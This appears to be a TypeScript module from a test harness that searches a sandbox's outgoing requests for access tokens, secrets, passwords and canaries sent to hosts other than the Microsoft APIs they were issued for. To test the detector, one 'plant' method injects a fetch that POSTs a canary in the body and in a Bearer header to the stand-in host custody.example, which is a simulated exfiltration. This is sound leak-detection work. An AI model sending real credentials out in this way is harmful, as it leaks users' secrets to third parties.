import type { Matcher } from "../search/matcher.ts";
import type { Kind, Needle } from "../search/needle.ts";
import type { Found, Searched } from "../search/searched.ts";
import { searchTexts } from "../search/searched.ts";
import type { Place } from "./place.ts";
import type { Scene } from "./scene.ts";

/** A request with all that it carries. */
interface Sent {
  readonly method: string;
  readonly url: URL;
  readonly headers: readonly (readonly [string, string])[];
  readonly body: string;
}

/** Names of people and tenants are what Microsoft's services are asked about: they may be in any request to them. */
const watched: readonly Kind[] = ["token", "client secret", "passphrase", "password", "canary"];

/** Application ids of Microsoft's own APIs (learn.microsoft.com, "Application IDs of commonly used Microsoft applications"). */
const hostsByAudience: Readonly<Record<string, readonly string[]>> = {
  "00000003-0000-0000-c000-000000000000": ["graph.microsoft.com"],
  "475226c6-020e-4fb2-8a90-7a972cbfc1d4": ["api.bap.microsoft.com"],
  "https://service.powerapps.com": ["api.bap.microsoft.com"],
  "8578e004-a5c6-46e7-913e-12f58912df43": ["api.powerplatform.com"],
};

/** The only hosts that an access token may be sent to: those of the API that it was issued for. */
function hostsOf({ value }: Needle): readonly string[] {
  const [, payload] = value.split(".");
  if (payload === undefined) return [];
  try {
    const { aud } = JSON.parse(Buffer.from(payload, "base64url").toString("utf8")) as {
      readonly aud?: string;
    };
    const audience = String(aud).replace(/\/$/, "");
    const known = hostsByAudience[audience];
    if (known) return known;
    return URL.canParse(audience) ? [new URL(audience).host] : [];
  } catch {
    return [];
  }
}

const signInHost = "login.microsoftonline.com";

/** Whether a needle belongs where it is in a request. All else that is found there is misplaced. */
function belongs(needle: Needle, part: string, { method, url }: Sent): boolean {
  if (part === "authorization") return needle.kind === "token" && hostsOf(needle).includes(url.host);
  if (part !== "body" || url.host !== signInHost || method !== "POST") return false;
  // A person types a password into Microsoft's form; a client posts its refresh token or its secret to /token.
  if (needle.kind === "password") return true;
  if (needle.kind === "passphrase") return false;
  return url.pathname.endsWith("/token") && !hostsOf(needle).length;
}

function misplaced(sent: Sent, matcher: Matcher): readonly Found[] {
  const parts: readonly (readonly [string, string])[] = [
    ["address", sent.url.href],
    ["body", sent.body],
    ...sent.headers,
  ];
  return parts.flatMap(([part, text]) =>
    matcher
      .find(text)
      .filter((needle) => watched.includes(needle.kind) && !belongs(needle, part, sent))
      .map((needle) => ({ needle, where: `${part} of ${sent.method} ${sent.url.host}` })),
  );
}

function searchRequests(all: readonly Sent[], matcher: Matcher): Searched {
  const { items, bytes } = searchTexts(
    all.map(({ url, body }) => ({ where: url.host, text: body })),
    matcher,
  );
  return { found: all.flatMap((sent) => misplaced(sent, matcher)), items, bytes };
}

/** A search of requests finds only what is where it does not belong. */
export function requestPlaces(scene: Scene): readonly Place[] {
  const fetched = async (): Promise<readonly Sent[]> =>
    (await scene.heard())
      .filter(({ what }) => what === "fetch")
      .map(({ text }) => {
        const { method, url, headers, body } = JSON.parse(text) as {
          readonly method: string;
          readonly url: string;
          readonly headers: Readonly<Record<string, string>>;
          readonly body: string;
        };
        return {
          method,
          url: new URL(url, "https://relative.invalid"),
          headers: Object.entries(headers),
          body,
        };
      });
  const address = "https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration";
  return [
    {
      name: "requests of the worker",
      look: async (matcher) => searchRequests(await fetched(), matcher),
      async plant(canary) {
        const value = JSON.stringify(canary);
        // To where no sandbox listens: it must be noticed before it leaves.
        await scene.inWorker(
          `void fetch("https://custody.example/", { method: "POST", body: ${value}, headers: { authorization: "Bearer " + ${value} } }).catch(() => {})`,
        );
        return ["body of POST custody.example", "authorization of POST custody.example"];
      },
    },
    {
      name: "requests that arrived",
      async look(matcher) {
        const all = scene.exchanges.map(({ request }) => ({
          method: request.method,
          url: request.url,
          headers: [...request.headers],
          body: request.body.toString("utf8"),
        }));
        const kept = searchTexts(
          [{ where: "the sandbox's log", text: JSON.stringify(scene.sandbox.requests) }],
          matcher,
        );
        const { found, items, bytes } = searchRequests(all, matcher);
        const watchedKept = kept.found.filter(({ needle }) => watched.includes(needle.kind));
        return { found: [...found, ...watchedKept], items: items + 1, bytes: bytes + kept.bytes };
      },
      async plant(canary) {
        const page = await scene.browser.context.newPage();
        await page.goto(`${address}?x=${encodeURIComponent(canary)}`);
        await page.close();
        return [`address of GET ${signInHost}`];
      },
    },
  ];
}
